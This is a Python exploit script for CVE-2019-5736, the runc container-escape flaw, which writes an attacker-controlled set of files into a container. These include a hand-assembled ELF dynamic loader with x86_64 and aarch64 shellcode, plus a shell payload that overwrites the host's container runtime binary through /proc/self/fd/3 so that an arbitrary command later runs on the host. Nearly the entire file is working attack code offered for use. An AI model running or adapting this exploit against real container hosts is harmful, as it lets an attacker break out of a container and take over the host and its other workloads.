"""The attacker's files for CVE-2019-5736: `python hostile_files.py DIRECTORY COMMAND`.

`/evil` is the script whose interpreter is the runtime. The runtime needs a dynamic loader, which the kernel takes
from the container, so the attacker brings one. It opens the file that it was started for and becomes a shell that
still has it open. The shell runs `/payload`, which writes `/new` over that file as soon as nobody executes it any
more. COMMAND is what `/new` runs when somebody executes it on the host.
"""

from __future__ import annotations

import os
import struct
import sys
from pathlib import Path

START = 0x10000000
"""Where the loader is in memory: away from any program."""
HEADERS = 64 + 56
PAYLOAD = """\
echo "the attacker holds $(readlink /proc/self/fd/3)"
attempt() { cat /new >/proc/self/fd/3; }
attempt && exit
(until attempt; do usleep 10000; done; touch /done) </dev/null >/dev/null 2>&1 &
"""


def main(directory: str, command: str) -> None:
    """Write the files below a directory, which is to be copied to the container's root."""
    loader = dynamic_loader_of(Path(os.path.realpath(sys.executable)).read_bytes())
    for path, content in {
        "evil": b"#!/proc/self/exe\n",
        "payload": PAYLOAD.encode(),
        "new": f"#!/bin/sh\n{command}\n".encode(),
        loader[1:]: hostile_loader(os.uname().machine),
    }.items():
        file = Path(directory, path)
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content)
        file.chmod(0o755)


def dynamic_loader_of(program: bytes) -> str:
    """Return the path of the dynamic loader that an ELF program asks for (PT_INTERP, elf(5))."""
    table, count = struct.unpack_from("<Q", program, 32)[0], struct.unpack_from("<H", program, 56)[0]
    for number in range(count):
        kind, _, offset, _, _, size = struct.unpack_from("<IIQQQQ", program, table + 56 * number)
        if kind == 3:
            return program[offset : offset + size - 1].decode()
    raise SystemExit("this Python needs no dynamic loader: the attack does not work with it")


def hostile_loader(machine: str) -> bytes:
    """Return an ELF program: open("/proc/self/exe"), then execve("/bin/sh", ["/bin/sh", "/payload"])."""
    texts = b"/proc/self/exe\0/bin/sh\0/payload\0"
    exe = START + HEADERS + 64  # the instructions have 64 bytes
    shell, payload = exe + 15, exe + 23
    argv = exe + len(texts) + -len(texts) % 8
    code = {"x86_64": _x86_64, "aarch64": _aarch64}[machine](exe, shell, argv)
    body = code.ljust(64, b"\0") + texts.ljust(argv - exe, b"\0") + struct.pack("<QQQ", shell, payload, 0)
    size = HEADERS + len(body)
    number = {"x86_64": 62, "aarch64": 183}[machine]
    sizes = (64, 56, 1, 64, 0, 0)
    header = b"\x7fELF\2\1\1".ljust(16, b"\0")
    header += struct.pack("<HHIQQQIHHHHHH", 2, number, 1, START + HEADERS, 64, 0, 0, *sizes)
    return header + struct.pack("<IIQQQQQQ", 1, 7, 0, START, START, size, size, 0x1000) + body


def _x86_64(exe: int, shell: int, argv: int) -> bytes:
    syscall, edi, esi, eax, no_esi, no_edx = b"\x0f\x05", b"\xbf", b"\xbe", b"\xb8", b"\x31\xf6", b"\x31\xd2"

    def word(number: int) -> bytes:
        return struct.pack("<I", number)

    opening = edi + word(exe) + no_esi + eax + word(2) + syscall
    return opening + edi + word(shell) + esi + word(argv) + no_edx + eax + word(59) + syscall


def _aarch64(exe: int, shell: int, argv: int) -> bytes:
    def load(register: int, number: int) -> list[int]:  # movz, movk
        low, high = number & 0xFFFF, number >> 16
        return [0xD2800000 | low << 5 | register, 0xF2A00000 | high << 5 | register]

    at_fdcwd, svc = 0x92800C60, 0xD4000001
    opening = [at_fdcwd, *load(1, exe), *load(2, 0)[:1], *load(8, 56)[:1], svc]
    executing = [*load(0, shell), *load(1, argv), *load(2, 0)[:1], *load(8, 221)[:1], svc]
    return struct.pack(f"<{len(opening + executing)}I", *opening, *executing)


if __name__ == "__main__":
    main(*sys.argv[1:])
